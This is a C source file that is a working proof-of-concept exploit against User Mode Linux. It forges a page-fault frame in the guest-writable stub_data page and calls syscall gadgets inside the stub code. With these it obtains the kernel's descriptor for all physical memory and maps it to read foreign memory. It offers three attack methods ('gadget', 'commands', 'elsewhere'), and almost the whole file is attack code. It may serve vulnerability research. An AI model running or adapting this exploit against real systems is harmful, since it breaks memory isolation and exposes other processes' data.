/*
 * Forges a page fault in a guest, to get the descriptor of the guest's whole memory: forged_fault WAY COMMANDS.
 *
 * A process of User Mode Linux tells its kernel of a fault in `struct stub_data`, in memory that the process can
 * write, and waits. The kernel then hands out the descriptor of all physical memory, for the process to map the page.
 * COMMANDS is the number of commands in that struct. Each way prints "mapped" if it could read foreign memory.
 */
#define _GNU_SOURCE
#include <linux/futex.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>

#define PAGE 4096UL
#define LOOKED (512UL << 20)
#define STEP (7 * PAGE)
enum { COMMAND = 40, MAP_COMMAND = 1, WRITTEN_BY_USER = 6, PAGE_FAULT = 14, MOST_FDS = 16 };

static unsigned char *code, *data;
static unsigned long after_commands;
static sigjmp_buf again;
static volatile int jumped;

static void on_fault(int number)
{
	siglongjmp(again, number);
}

static int readable(const volatile char *at)
{
	if (sigsetjmp(again, 1))
		return 0;
	(void)*at;
	return 1;
}

#define FIELD(type, offset) (*(volatile type *)(data + after_commands + (offset)))
#define FUTEX FIELD(uint32_t, 4)
#define SIGNAL FIELD(int32_t, 8)
#define INFO FIELD(uint16_t, 12)
#define CONTEXT FIELD(uint16_t, 14)

/* Three pages at the top of the address space: code, and twice data. */
static int find_stub(long commands)
{
	unsigned long page = 0x800000000000UL - PAGE;
	int looked;

	for (looked = 0; looked < 64 && !readable((char *)page); looked++)
		page -= PAGE;
	if (looked == 64)
		return 0;
	data = (unsigned char *)(page - PAGE);
	code = data - PAGE;
	after_commands = 16 + commands * COMMAND;
	return 1;
}

/* Find `syscall` with what follows it. */
static unsigned char *find(const char *bytes, size_t length, int nth)
{
	unsigned char *at = code;

	while ((at = memmem(at, code + PAGE - at, bytes, length)) && nth--)
		at++;
	return at;
}

static long through(unsigned char *gadget, long number, long a, long b, long c, long d, long e, long f)
{
	register long r10 asm("r10") = d, r8 asm("r8") = e, r9 asm("r9") = f;
	long result;

	asm volatile("call *%[gadget]"
		     : "=a"(result)
		     : "0"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9), [gadget] "r"(gadget)
		     : "rcx", "r11", "memory");
	return result;
}

/* Make the last frame on the signal stack one of a write to an untouched page. */
static void forge(volatile char *page)
{
	mcontext_t *context;

	SIGNAL = SIGSEGV;
	context = (void *)(data + PAGE + CONTEXT);
	context->gregs[REG_CR2] = (greg_t)page;
	context->gregs[REG_ERR] = WRITTEN_BY_USER;
	context->gregs[REG_TRAPNO] = PAGE_FAULT;
}

static int looks_foreign(const char *memory)
{
	unsigned long at;

	for (at = 0; at < 64; at++)
		if (memory[at])
			return 1;
	return 0;
}

/* Report a fault, wait, and receive the descriptor: each by a system call of the stub that returns here. */
static const char *by_gadget(void)
{
	unsigned char *gadget = find("\x0f\x05\xc3", 3, 0);
	char *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), byte;
	char *place = mmap(NULL, LOOKED, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	char control[CMSG_SPACE(sizeof(int) * 4)];
	struct iovec vector = {&byte, 1};
	struct msghdr message = {.msg_iov = &vector, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control)};
	unsigned long at;
	long got;
	int fd;

	if (!gadget)
		return "there is no such gadget";
	memset(control, 0, sizeof(control));
	forge(page);
	FUTEX = 1;
	through(gadget, SYS_futex, (long)&FUTEX, FUTEX_WAKE, 1, 0, 0, 0);
	while (FUTEX == 1)
		through(gadget, SYS_futex, (long)&FUTEX, FUTEX_WAIT, 1, 0, 0, 0);
	got = through(gadget, SYS_recvmsg, 0, (long)&message, 0, 0, 0, 0);
	if (got != 1 || message.msg_controllen <= sizeof(struct cmsghdr))
		return "no descriptor came";
	memcpy(&fd, CMSG_DATA((struct cmsghdr *)control), sizeof(fd));
	got = through(gadget, SYS_mmap, (long)place, LOOKED, PROT_READ, MAP_SHARED | MAP_FIXED, fd, 0);
	for (at = 0; got == (long)place && at < LOOKED; at += STEP)
		if (looks_foreign(place + at))
			return "mapped";
	return "a descriptor came, and could not be used";
}

/* Jump behind the nth system call, with commands to map the beginning of all memory. */
static const char *by_commands(int nth)
{
	unsigned char *at = find("\x0f\x05", 2, nth);
	char *place = mmap(NULL, PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	uint64_t command[COMMAND / 8] = {(uint64_t)place, PAGE, 0, 0, MAP_COMMAND};
	unsigned int *word;

	if (!at)
		return "there is no such system call";
	((uint32_t *)command)[6] = 0;
	((uint32_t *)command)[7] = PROT_READ;
	memcpy(data + 16, command, sizeof(command));
	for (word = (void *)(data + after_commands + 64); (unsigned char *)word < data + PAGE; word++)
		*word = 1;
	FUTEX = 0;
	*(volatile int32_t *)(data + 8) = 1;
	/* the kernel may return to the last place at which it was entered, which is before this */
	if (!sigsetjmp(again, 1) && !jumped++)
		asm volatile("xor %%eax, %%eax\n xor %%r12d, %%r12d\n jmp *%[at]"
			     : : [at] "r"(at + 2), "b"(data) : "rax", "r12", "r13", "r14", "r15", "memory");
	return readable(place) && looks_foreign(place) ? "mapped" : "nothing was mapped";
}

/* Make a system call of the stub at an address that is not the one of that call. */
static const char *elsewhere(int nth)
{
	unsigned char *at = find("\x0f\x05", 2, nth);

	if (!at)
		return "there is no such system call";
	through(at, SYS_munmap, (long)code, PAGE, 0, 0, 0, 0);
	return "returned";
}

int main(int count, char **words)
{
	stack_t stack = {.ss_sp = malloc(1 << 16), .ss_size = 1 << 16};
	struct sigaction action = {.sa_handler = on_fault, .sa_flags = SA_ONSTACK | SA_NODEFER};

	if (count != 4)
		return 2;
	sigaltstack(&stack, NULL);
	sigaction(SIGSEGV, &action, NULL);
	sigaction(SIGBUS, &action, NULL);
	if (!find_stub(atol(words[2])))
		return puts("no stub"), 1;
	if (!strcmp(words[1], "gadget"))
		puts(by_gadget());
	else if (!strcmp(words[1], "commands"))
		puts(by_commands(atoi(words[3])));
	else if (!strcmp(words[1], "elsewhere"))
		puts(elsewhere(atoi(words[3])));
	return 0;
}
